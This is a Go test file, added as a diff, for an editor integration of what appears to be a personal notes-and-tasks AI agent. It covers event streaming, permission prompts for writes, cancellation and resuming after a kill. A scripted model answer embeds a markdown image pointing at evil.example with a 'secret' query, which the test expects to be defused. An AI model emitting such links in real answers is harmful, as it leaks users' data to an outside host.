@@ -1,0 +1,345 @@
+//go:build unix
+
+package acp_test
+
+import (
+	"bufio"
+	"encoding/json"
+	"io"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+
+	sdk "github.com/coder/acp-go-sdk"
+
+	"lifehub/agent"
+	"lifehub/internal/apptest"
+	"lifehub/llm/llmtest"
+)
+
+// runs is a model that plans a search and quotes what it finds.
+func runs() *llmtest.Script {
+	return llmtest.NewScript(
+		llmtest.Answer{Match: asksPlanner, Text: `{"reasoning":"look it up","steps":[{"id":"1","tool":"search_notes","input":{"query":"running"}},{"id":"2","tool":"list_tasks","input":{}}]}`, Always: true},
+		llmtest.Answer{Match: asksExplainer, Thinking: "Quote it.", Text: "You wrote: “I run three times a week” [1]. ![x](http://evil.example/?q=secret)", Always: true},
+	)
+}
+
+// The editor is told the story of the chat: the same plan, calls, sources, thoughts,
+// answer and verdicts as the events of `lifehub ask`, for the same model.
+func TestTheStoryIsThatOfTheChat(t *testing.T) {
+	env := environ(t, t.TempDir(), runs())
+	vault := indexed(t, env)
+	var said, thought, plan, calls, verdicts []string
+	lines := bufio.NewScanner(strings.NewReader(run(t, env, "ask", "--stream-json", "--notes", vault, "how often do I run?")))
+	lines.Buffer(nil, 1<<20)
+	for lines.Scan() {
+		var e agent.Event
+		if err := json.Unmarshal(lines.Bytes(), &e); err != nil {
+			t.Fatal(err)
+		}
+		switch b := e.Body.(type) {
+		case agent.Said:
+			said = append(said, b.Content)
+		case agent.Thought:
+			thought = append(thought, b.Content)
+		case agent.PlanMade:
+			for _, step := range b.Steps {
+				plan = append(plan, step.Tool)
+			}
+		case agent.ToolEnded:
+			for _, s := range b.Sources {
+				calls = append(calls, s.Path)
+			}
+		case agent.Cited:
+			verdicts = append(verdicts, b.Citation.Mark()+" "+b.Citation.Place()+" "+b.Citation.Told())
+		}
+	}
+
+	e, _ := inside(t, env, vault)
+	id := e.begin(t, vault)
+	if stop := e.ask(t, id, text("how often do I run?")); stop != sdk.StopReasonEndTurn {
+		t.Errorf("it stopped with %s", stop)
+	}
+	told := e.told(id)
+	if got, want := answered(told), strings.ReplaceAll(strings.Join(said, ""), "![x]", "[x]"); got != want || got == "" {
+		t.Errorf("the answer is %q, ask says %q", got, want)
+	}
+	var thoughts, places []string
+	var last *sdk.SessionUpdatePlan
+	status := map[sdk.ToolCallId][]sdk.ToolCallStatus{}
+	kinds := map[string]sdk.ToolKind{}
+	for _, u := range told {
+		switch {
+		case u.AgentThoughtChunk != nil:
+			thoughts = append(thoughts, u.AgentThoughtChunk.Content.Text.Text)
+		case u.Plan != nil:
+			last = u.Plan
+		case u.ToolCall != nil:
+			status[u.ToolCall.ToolCallId] = append(status[u.ToolCall.ToolCallId], u.ToolCall.Status)
+			name, _, _ := strings.Cut(u.ToolCall.Title, " ")
+			kinds[name] = u.ToolCall.Kind
+		case u.ToolCallUpdate != nil:
+			status[u.ToolCallUpdate.ToolCallId] = append(status[u.ToolCallUpdate.ToolCallId], *u.ToolCallUpdate.Status)
+			for _, l := range u.ToolCallUpdate.Locations {
+				if l.Line == nil || *l.Line < 1 || !filepath.IsAbs(l.Path) {
+					t.Errorf("a place without line: %s", jsonOf(l))
+				}
+				places = append(places, filepath.Base(l.Path))
+			}
+		}
+	}
+	if strings.Join(thoughts, "") != strings.Join(thought, "") {
+		t.Errorf("thoughts are %q, ask tells %q", thoughts, thought)
+	}
+	if last == nil || len(last.Entries) != len(plan) || !strings.HasPrefix(last.Entries[0].Content, plan[0]) || last.Entries[0].Status != sdk.PlanEntryStatusCompleted || last.Entries[1].Status != sdk.PlanEntryStatusCompleted {
+		t.Errorf("the plan is %s, ask tells %v", jsonOf(last), plan)
+	}
+	if len(status) != len(plan) || kinds["search_notes"] != sdk.ToolKindSearch || kinds["list_tasks"] != sdk.ToolKindRead {
+		t.Errorf("the calls are %v of kinds %v", status, kinds)
+	}
+	for call, s := range status {
+		if len(s) != 2 || s[0] != sdk.ToolCallStatusInProgress || s[1] != sdk.ToolCallStatusCompleted {
+			t.Errorf("call %s: %v", call, s)
+		}
+	}
+	if strings.Join(places, " ") != strings.Join(calls, " ") || len(places) == 0 {
+		t.Errorf("sources are at %v, ask tells %v", places, calls)
+	}
+	for _, verdict := range verdicts {
+		for _, word := range strings.Fields(strings.NewReplacer("[", "", "]", "").Replace(verdict)) {
+			if !strings.Contains(strings.NewReplacer("\\", "", "[", "", "]", "").Replace(asides(told)), word) {
+				t.Errorf("the verdict %q is missing in %s", verdict, asides(told))
+			}
+		}
+	}
+	if !strings.Contains(asides(told), "(file://"+filepath.ToSlash(vault)+"/running.md#L3)") {
+		t.Errorf("the source does not open at its line: %s", asides(told))
+	}
+}
+
+// A call that writes is asked about with the options, the sentence and the diff of
+// the dialog, and only a yes of the user makes it.
+func TestAPermissionIsAskedThroughTheEditor(t *testing.T) {
+	env := environ(t, t.TempDir(), nil)
+	vault := indexed(t, env)
+	tasks := filepath.Join(vault, "tasks.md")
+	before := apptest.Read(t, tasks)
+	e, _ := inside(t, env, vault)
+	id := e.begin(t, vault)
+	for _, no := range []string{"no", "", "yes", "ALLOW"} { // an option that was not offered is none
+		e.answer = func(sdk.RequestPermissionRequest) string { return no }
+		e.ask(t, id, text("add task call Ines"))
+		if apptest.Read(t, tasks) != before {
+			t.Fatalf("%q let it write", no)
+		}
+	}
+	failed := false
+	for _, u := range e.told(id) {
+		failed = failed || u.ToolCallUpdate != nil && u.ToolCallUpdate.Status != nil && *u.ToolCallUpdate.Status == sdk.ToolCallStatusFailed
+	}
+	if !failed {
+		t.Error("a call that was denied is not shown so")
+	}
+
+	e.answer = func(sdk.RequestPermissionRequest) string { return "once" }
+	e.forget()
+	e.ask(t, id, text("add task call Ines"))
+	if !strings.Contains(apptest.Read(t, tasks), "- [ ] call Ines") {
+		t.Errorf("allowed, it did not write: %s", apptest.Read(t, tasks))
+	}
+	p := e.asked[len(e.asked)-1]
+	var options []string
+	for _, o := range p.Options {
+		options = append(options, string(o.OptionId)+" "+string(o.Kind))
+	}
+	if got := strings.Join(options, ", "); got != "once allow_once, conversation allow_always, always allow_always, no reject_once" {
+		t.Errorf("the options are %s", got)
+	}
+	if got := *p.ToolCall.Title; got != "Allow add_task? Add 1 line to tasks.md" {
+		t.Errorf("the question is %q", got)
+	}
+	content := jsonOf(p.ToolCall.Content)
+	if !strings.Contains(content, "+ - [ ] call Ines") || !strings.Contains(content, `"path":"`+tasks+`"`) || !strings.Contains(content, `call the plumber\n- [ ] call Ines`) {
+		t.Errorf("the question does not show what will be written: %s", content)
+	}
+	if !strings.Contains(asides(e.told(id)), "changed tasks.md") {
+		t.Errorf("what it did is not told: %s", asides(e.told(id)))
+	}
+	e.answer = func(sdk.RequestPermissionRequest) string { return "conversation" }
+	e.ask(t, id, text("add task one"))
+	asked := len(e.asked)
+	e.ask(t, id, text("add task two"))
+	if len(e.asked) != asked || !strings.Contains(apptest.Read(t, tasks), "two") {
+		t.Errorf("allowed in this chat, it asks again")
+	}
+	e.ask(t, e.begin(t, vault), text("add task three"))
+	if len(e.asked) != asked+1 {
+		t.Errorf("another session took the permission of the first")
+	}
+}
+
+// session/cancel stops a turn, which keeps what was said.
+func TestACancelStopsATurn(t *testing.T) {
+	hold := make(chan struct{})
+	defer close(hold)
+	env := environ(t, t.TempDir(), llmtest.NewScript(
+		llmtest.Answer{Match: asksPlanner, Text: `{"steps":[{"id":"1","tool":"search_notes","input":{"query":"running"}}]}`, Always: true},
+		llmtest.Answer{Match: asksExplainer, Pieces: []string{"Three ", "times"}, Hold: hold, HoldAfter: 1, Always: true},
+	))
+	vault := indexed(t, env)
+	e, _ := inside(t, env, vault)
+	id := e.begin(t, vault)
+	stopped := make(chan sdk.StopReason, 1)
+	go func() { stopped <- e.ask(t, id, text("how often do I run?")) }()
+	said := func(u sdk.SessionUpdate) bool { return u.AgentMessageChunk != nil }
+	e.await(t, id, "answer", said)
+	if _, err := e.Prompt(t.Context(), sdk.PromptRequest{SessionId: id, Prompt: []sdk.ContentBlock{text("and now?")}}); err == nil || !strings.Contains(err.Error(), "still answering") {
+		t.Errorf("a second prompt at once: %v", err)
+	}
+	other := e.begin(t, vault)
+	go func() { stopped <- e.ask(t, other, text("in another session?")) }()
+	e.await(t, other, "answer", said)
+	for _, id := range []sdk.SessionId{id, other} {
+		if err := e.Cancel(t.Context(), sdk.CancelNotification{SessionId: id}); err != nil {
+			t.Fatal(err)
+		}
+		if stop := <-stopped; stop != sdk.StopReasonCancelled {
+			t.Errorf("it stopped with %s", stop)
+		}
+	}
+	if got := answered(e.told(id)); got != "Three " {
+		t.Errorf("the answer is %q", got)
+	}
+
+	list, err := e.ListSessions(t.Context(), sdk.ListSessionsRequest{})
+	if err != nil || len(list.Sessions) != 2 || !strings.HasPrefix(*list.Sessions[1].Title, "how often") {
+		t.Errorf("%v: the sessions are %s", err, jsonOf(list))
+	}
+}
+
+// A process that is killed in the middle of a turn loses nothing: another one loads
+// the session and resumes the turn, whose finished steps are not run again, and a
+// question that waited is asked again.
+func TestATurnIsResumedAfterAKill(t *testing.T) {
+	hold := make(chan struct{})
+	env := environ(t, t.TempDir(), llmtest.NewScript(
+		llmtest.Answer{Match: asksPlanner, Text: `{"steps":[{"id":"1","tool":"search_notes","input":{"query":"running"}},{"id":"2","tool":"add_task","input":{"text":"buy shoes"},"after":["1"]}]}`},
+		llmtest.Answer{Match: asksExplainer, Pieces: []string{"It is ", "done."}, Hold: hold, HoldAfter: 1},
+		llmtest.Answer{Match: asksExplainer, Text: "It is done.", Always: true},
+	))
+	vault := indexed(t, env)
+	tasks := filepath.Join(vault, "tasks.md")
+
+	waiting := make(chan struct{})
+	e, cmd, _ := program(t, env, "--notes", vault)
+	e.answer = func(sdk.RequestPermissionRequest) string { <-waiting; return "" }
+	defer close(waiting)
+	id := e.begin(t, vault)
+	go func() {
+		_, _ = e.Prompt(t.Context(), sdk.PromptRequest{SessionId: id, Prompt: []sdk.ContentBlock{text("add what I need for running")}})
+	}()
+	isAsked := func(u sdk.SessionUpdate) bool {
+		return u.ToolCall != nil && u.ToolCall.Status == sdk.ToolCallStatusPending
+	}
+	first := e.await(t, id, "question", isAsked)
+	kill(t, cmd)
+
+	// The question that waited is asked again, with the same arguments.
+	e, cmd, _ = program(t, env, "--notes", vault)
+	e.answer = func(sdk.RequestPermissionRequest) string { return "once" }
+	load(t, e, id, vault)
+	told := e.told(id)
+	if told[0].UserMessageChunk == nil || told[0].UserMessageChunk.Content.Text.Text != "add what I need for running" || !strings.Contains(asides(told), "/continue resumes it") {
+		t.Errorf("loaded: %s", jsonOf(told))
+	}
+	e.forget()
+	go func() {
+		_, _ = e.Prompt(t.Context(), sdk.PromptRequest{SessionId: id, Prompt: []sdk.ContentBlock{text("/continue")}})
+	}()
+	again := e.await(t, id, "question", isAsked)
+	if jsonOf(again.ToolCall.RawInput) != jsonOf(first.ToolCall.RawInput) || again.ToolCall.ToolCallId != first.ToolCall.ToolCallId {
+		t.Errorf("asked again: %s", jsonOf(again))
+	}
+	e.await(t, id, "answer", func(u sdk.SessionUpdate) bool { return answered([]sdk.SessionUpdate{u}) != "" })
+	for _, u := range e.told(id) {
+		if u.ToolCall != nil && strings.HasPrefix(u.ToolCall.Title, "search_notes") {
+			t.Error("a finished step was run again")
+		}
+	}
+	kill(t, cmd) // now in the middle of the answer
+	close(hold)
+
+	e, cmd, in := program(t, env, "--notes", vault)
+	load(t, e, id, vault)
+	if got := answered(e.told(id)); !strings.HasPrefix("It is ", got) {
+		t.Errorf("loaded: %q", got)
+	}
+	e.forget()
+	if stop := e.ask(t, id, text("/continue")); stop != sdk.StopReasonEndTurn || answered(e.told(id)) != "It is done." {
+		t.Errorf("resumed: %s, %q", stop, answered(e.told(id)))
+	}
+	if n := strings.Count(apptest.Read(t, tasks), "buy shoes"); n != 1 || len(e.asked) > 0 {
+		t.Errorf("the task is there %d times, asked again %d times", n, len(e.asked))
+	}
+	e.forget()
+	e.ask(t, id, text("/continue"))
+	if got := asides(e.told(id)) + jsonOf(e.told(id)); !strings.Contains(got, "there is nothing to resume") {
+		t.Errorf("once more: %s", got)
+	}
+	in.Close()
+	if err := cmd.Wait(); err != nil {
+		t.Errorf("the end of its input: %v", err)
+	}
+}
+
+func kill(t *testing.T, cmd *exec.Cmd) {
+	t.Helper()
+	if err := cmd.Process.Kill(); err != nil {
+		t.Fatal(err)
+	}
+	_ = cmd.Wait()
+}
+
+func load(t *testing.T, e *editor, id sdk.SessionId, cwd string) {
+	t.Helper()
+	if _, err := e.LoadSession(t.Context(), sdk.LoadSessionRequest{SessionId: id, Cwd: cwd, McpServers: []sdk.McpServer{}}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// SIGTERM and the end of the input suspend a turn; they do not stop it.
+func TestAnEndSuspendsATurn(t *testing.T) {
+	hold := make(chan struct{})
+	defer close(hold)
+	for name, end := range map[string]func(*exec.Cmd, io.Closer) error{
+		"SIGTERM":     func(cmd *exec.Cmd, _ io.Closer) error { return cmd.Process.Signal(syscall.SIGTERM) },
+		"end of file": func(_ *exec.Cmd, in io.Closer) error { return in.Close() },
+	} {
+		env := environ(t, t.TempDir(), llmtest.NewScript(
+			llmtest.Answer{Match: asksPlanner, Text: `{"steps":[{"id":"1","tool":"search_notes","input":{"query":"running"}}]}`},
+			llmtest.Answer{Match: asksExplainer, Pieces: []string{"Three ", "times"}, Hold: hold, HoldAfter: 1},
+			llmtest.Answer{Match: asksExplainer, Text: "Three times.", Always: true},
+		))
+		vault := indexed(t, env)
+		e, cmd, in := program(t, env, "--notes", vault)
+		id := e.begin(t, vault)
+		go func() {
+			_, _ = e.Prompt(t.Context(), sdk.PromptRequest{SessionId: id, Prompt: []sdk.ContentBlock{text("how often do I run?")}})
+		}()
+		e.await(t, id, "answer", func(u sdk.SessionUpdate) bool { return u.AgentMessageChunk != nil })
+		if err := end(cmd, in); err != nil {
+			t.Fatal(err)
+		}
+		if _ = cmd.Wait(); cmd.ProcessState.ExitCode() != map[string]int{"SIGTERM": 143, "end of file": 0}[name] {
+			t.Errorf("%s: exit code %d", name, cmd.ProcessState.ExitCode())
+		}
+		e, _, _ = program(t, env, "--notes", vault)
+		load(t, e, id, vault)
+		if got := asides(e.told(id)); !strings.Contains(got, "/continue resumes it") {
+			t.Errorf("%s: loaded: %s", name, got)
+		}
+	}
+}
